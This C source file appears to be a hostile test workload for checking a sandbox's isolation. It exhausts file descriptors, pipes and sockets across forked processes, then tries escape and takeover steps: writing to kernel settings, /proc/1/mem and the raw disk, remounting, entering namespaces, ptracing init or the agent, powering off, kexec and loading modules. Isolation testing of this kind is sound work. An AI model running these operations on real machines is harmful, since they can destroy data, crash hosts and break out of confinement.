// What a workload could do to the machine that it runs in: hostile files|sockets|pipes|escape
//
// `files`, `sockets` and `pipes` take all that they get of a kind, in as many processes as they get, print how much,
// and stay. `escape` tries one after the other what should not be possible and prints the names of what was.
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/reboot.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/swap.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static char block[65536];

static long take_files(void) {
  long count = 0;
  while (open("/dev/null", O_RDONLY) >= 0) count++;
  return count;
}

static void fill(int fd, long *bytes) {
  ssize_t sent;
  fcntl(fd, F_SETFL, O_NONBLOCK);
  while ((sent = write(fd, block, sizeof block)) > 0) *bytes += sent;
}

static long take_pipes(void) {
  long bytes = 0;
  for (int ends[2]; pipe(ends) == 0;) {
    fcntl(ends[1], F_SETPIPE_SZ, 1024 * 1024);
    fill(ends[1], &bytes);
  }
  return bytes;
}

static long take_sockets(void) {
  long bytes = 0;
  for (int ends[2]; socketpair(AF_UNIX, SOCK_STREAM, 0, ends) == 0;) {
    fill(ends[0], &bytes);
    fill(ends[1], &bytes);
  }
  return bytes;
}

static void take_all(long (*take)(void)) {
  struct rlimit files;
  getrlimit(RLIMIT_NOFILE, &files);
  files.rlim_cur = files.rlim_max;
  setrlimit(RLIMIT_NOFILE, &files);
  int processes = 0;
  for (pid_t child; processes < 64 && (child = fork()) >= 0; processes++) {
    if (child > 0) continue;
    take();
    pause();
  }
  sleep(3);
  printf("%d processes took what there was\n", processes);
  fflush(stdout);
  pause();
}

static void tried(const char *what, long result) {
  if (result >= 0) printf("%s\n", what);
}

static long write_to(const char *path, const char *text) {
  int fd = open(path, O_WRONLY);
  if (fd < 0) return -1;
  ssize_t written = write(fd, text, strlen(text));
  close(fd);
  return written;
}

static void write_files(void) {
  static const char *const files[][2] = {
      {"/proc/sys/kernel/core_pattern", "|/bin/true"},
      {"/proc/sys/kernel/panic", "1"},
      {"/proc/sys/kernel/modprobe", "/bin/true"},
      {"/proc/sys/vm/overcommit_memory", "2"},
      {"/proc/sys/fs/file-max", "10"},
      {"/proc/self/oom_score_adj", "-1000"},
      {"/proc/1/mem", "x"},
      {"/proc/1/root/vzagent", "x"},
      {"/sys/kernel/uevent_helper", "/bin/true"},
      {"/sys/power/state", "mem"},
      {"/sys/class/net/lo/mtu", "100"},
      {"/sys/fs/cgroup/cgroup.procs", "0"},
      {"/sys/fs/cgroup/cgroup.kill", "1"},
      {"/sys/fs/cgroup/cgroup.freeze", "1"},
      {"/sys/fs/cgroup/memory.max", "max"},
      {"/sys/fs/cgroup/pids.max", "max"},
      {"/sys/fs/cgroup/../cgroup.procs", "0"},
      {"/dev/kmsg", "x"},
      {"/dev/mem", "x"},
      {"/dev/vda", "x"},
  };
  for (size_t i = 0; i < sizeof files / sizeof files[0]; i++) tried(files[i][0], write_to(files[i][0], files[i][1]));
}

static void change_mounts(void) {
  mkdir("/tmp/m", 0755);
  tried("mount proc", mount("proc", "/tmp/m", "proc", 0, NULL));
  tried("mount cgroup2", mount("cgroup2", "/tmp/m", "cgroup2", 0, NULL));
  tried("mount devtmpfs", mount("devtmpfs", "/tmp/m", "devtmpfs", 0, NULL));
  tried("mount virtiofs", mount("rootfs", "/tmp/m", "virtiofs", 0, NULL));
  tried("bind", mount("/", "/tmp/m", NULL, MS_BIND | MS_REC, NULL));
  tried("remount /", mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL));
  tried("remount /sys", mount(NULL, "/sys", NULL, MS_REMOUNT | MS_BIND, NULL));
  tried("remount cgroup", mount(NULL, "/sys/fs/cgroup", NULL, MS_REMOUNT | MS_BIND, NULL));
  tried("shared", mount(NULL, "/", NULL, MS_SHARED | MS_REC, NULL));
  tried("move", mount("/proc/sys", "/tmp/m", NULL, MS_MOVE, NULL));
  tried("umount /proc/sys", umount2("/proc/sys", MNT_DETACH));
  tried("umount /proc/kcore", umount2("/proc/kcore", MNT_DETACH));
  tried("umount /sys/fs/cgroup", umount2("/sys/fs/cgroup", MNT_DETACH));
  tried("umount /", umount2("/", MNT_DETACH));
  tried("fsopen", syscall(430, "proc", 0));
  tried("open_tree", syscall(428, AT_FDCWD, "/", 1));
  tried("pivot_root", syscall(SYS_pivot_root, "/", "/tmp"));
  tried("unshare mount", unshare(CLONE_NEWNS));
  tried("unshare user", unshare(CLONE_NEWUSER));
  tried("unshare cgroup", unshare(CLONE_NEWCGROUP));
  static const char *const namespaces[] = {"mnt", "pid", "user", "cgroup", "net"};
  for (size_t i = 0; i < 5; i++) {
    char path[64];
    snprintf(path, sizeof path, "/proc/1/ns/%s", namespaces[i]);
    int fd = open(path, O_RDONLY);
    if (fd >= 0) tried(path, setns(fd, 0));
  }
}

static void look_into_others(void) {
  DIR *processes = opendir("/proc");
  struct iovec mine = {.iov_base = block, .iov_len = 8}, theirs = {.iov_base = (void *)(uintptr_t)0x400000, .iov_len = 8};
  for (struct dirent *entry; (entry = readdir(processes)) != NULL;) {
    pid_t pid = atoi(entry->d_name);
    char path[128], name[64] = "";
    if (pid <= 0 || pid == getpid() || pid == getppid()) continue;
    snprintf(path, sizeof path, "/proc/%d/comm", pid);
    int fd = open(path, O_RDONLY);
    if (fd >= 0 && read(fd, name, sizeof name - 1) < 0) name[0] = '\0';
    if (fd >= 0) close(fd);
    if (strncmp(name, "init", 4) != 0 && strstr(name, "vzagent") == NULL) continue;
    tried("ptrace", ptrace(PTRACE_SEIZE, pid, NULL, NULL));
    tried("process_vm_readv", process_vm_readv(pid, &mine, 1, &theirs, 1, 0));
    for (int other = 0; other < 32; other++) {
      snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, other);
      tried(path, open(path, O_RDONLY));
    }
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    tried(path, open(path, O_RDONLY));
    snprintf(path, sizeof path, "/proc/%d/root/init", pid);
    tried(path, open(path, O_RDONLY));
    snprintf(path, sizeof path, "/proc/%d/cwd/lib/modules", pid);
    tried(path, open(path, O_RDONLY));
    int handle = (int)syscall(434, pid, 0);
    for (int other = 0; handle >= 0 && other < 32; other++) tried("pidfd_getfd", syscall(438, handle, other, 0));
  }
  closedir(processes);
}

static void change_machine(void) {
  struct timespec time = {.tv_sec = 1};
  struct {
    unsigned bytes;
    int type;
    unsigned char data[128];
  } handle = {.bytes = 128, .type = 1};
  tried("reboot", reboot(RB_POWER_OFF));
  tried("kexec", syscall(SYS_kexec_load, 0, 0, NULL, 0));
  tried("init_module", syscall(SYS_init_module, block, sizeof block, ""));
  tried("delete_module", syscall(SYS_delete_module, "virtiofs", 0));
  tried("swapon", swapon("/dev/zero", 0));
  tried("clock", clock_settime(CLOCK_REALTIME, &time));
  tried("hostname", sethostname("x", 1));
  tried("bpf", syscall(SYS_bpf, 0, block, 64));
  tried("perf", syscall(SYS_perf_event_open, block, -1, 0, -1, 0));
  tried("open_by_handle_at", syscall(SYS_open_by_handle_at, AT_FDCWD, &handle, O_RDONLY));
  tried("nice", setpriority(PRIO_PROCESS, 0, -20));
  tried("rlimit", setrlimit(RLIMIT_NPROC, &(struct rlimit){RLIM_INFINITY, RLIM_INFINITY}) == 0 &&
                          setrlimit(RLIMIT_NOFILE, &(struct rlimit){1 << 20, 1 << 20}) == 0
                      ? 0
                      : -1);
  tried("syslog", syscall(SYS_syslog, 5, NULL, 0));
  tried("vhangup", syscall(SYS_vhangup));
#if defined(__x86_64__)
  tried("iopl", syscall(SYS_iopl, 3));
#endif
}

int main(int count, char **arguments) {
  const char *mode = count == 2 ? arguments[1] : "";
  if (strcmp(mode, "files") == 0) take_all(take_files);
  if (strcmp(mode, "pipes") == 0) take_all(take_pipes);
  if (strcmp(mode, "sockets") == 0) take_all(take_sockets);
  if (strcmp(mode, "escape") != 0) return 2;
  write_files();
  change_mounts();
  look_into_others();
  change_machine();
  printf("tried\n");
  return 0;
}
